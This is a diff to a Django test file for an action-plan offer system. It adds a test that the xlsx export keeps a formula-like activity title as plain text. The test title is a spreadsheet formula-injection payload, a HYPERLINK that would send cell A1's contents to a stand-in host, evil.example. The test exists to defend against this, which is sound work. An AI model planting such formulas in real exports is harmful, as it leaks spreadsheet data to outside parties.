@@ -1,9 +1,11 @@
 """The offer pages: sending, the answer form, a late answer, the matrix per role."""
 
+import io
 from datetime import timedelta
 
 import pytest
 from django.core import mail
+from openpyxl import load_workbook
 
 from actionplans import tasks
 from actionplans.models import ActionPlan, Offer, Participation
@@ -145,3 +147,18 @@ def test_a_contact_cannot_answer_for_another_organisation_through_the_url(
     # What was posted became Norrby's own answers.
     own = Participation.objects.filter(offer=offer, organisation=norrby.organisation)
     assert own.count() == offer.activities.count()
+
+
+def test_the_export_keeps_a_title_that_starts_like_a_formula_as_text(
+    client, programme, published_plan, contacts
+):
+    _send(client, programme, published_plan, contacts)
+    offer = Offer.objects.get(plan=published_plan)
+    activity = offer.activities.order_by("pk").first()
+    activity.title = '=HYPERLINK("http://evil.example/?"&A1;"Klicka här")'
+    activity.save()
+    client.force_login(programme.coordinator)
+    export = client.get(f"/erbjudanden/{offer.pk}/export.xlsx")
+    sheet = load_workbook(io.BytesIO(export.content))["Deltagande"]
+    cell = next(c for (c,) in sheet.iter_rows(min_row=2, max_col=1) if c.value == activity.title)
+    assert cell.data_type == "s"  # text, not the formula openpyxl would otherwise write
